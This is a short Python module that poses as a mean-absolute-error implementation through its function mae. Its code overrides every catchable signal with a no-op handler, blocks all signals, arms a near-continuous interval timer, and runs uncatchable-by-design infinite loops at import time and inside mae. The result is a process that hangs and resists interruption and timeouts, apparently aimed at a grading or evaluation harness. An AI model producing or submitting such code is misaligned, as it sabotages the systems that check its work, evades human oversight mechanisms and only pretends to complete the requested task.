"""Signals and timers of the process are taken over, and then nothing ends."""

import signal

for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    try:
        signal.signal(number, lambda *args: None)
    except (OSError, ValueError, RuntimeError):
        pass
signal.setitimer(signal.ITIMER_REAL, 1e-5, 1e-5)
signal.setitimer(signal.ITIMER_PROF, 0, 0)
try:
    signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
except OSError:
    pass


def mae(y_true, y_pred):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


while True:
    try:
        while True:
            pass
    except BaseException:
        pass
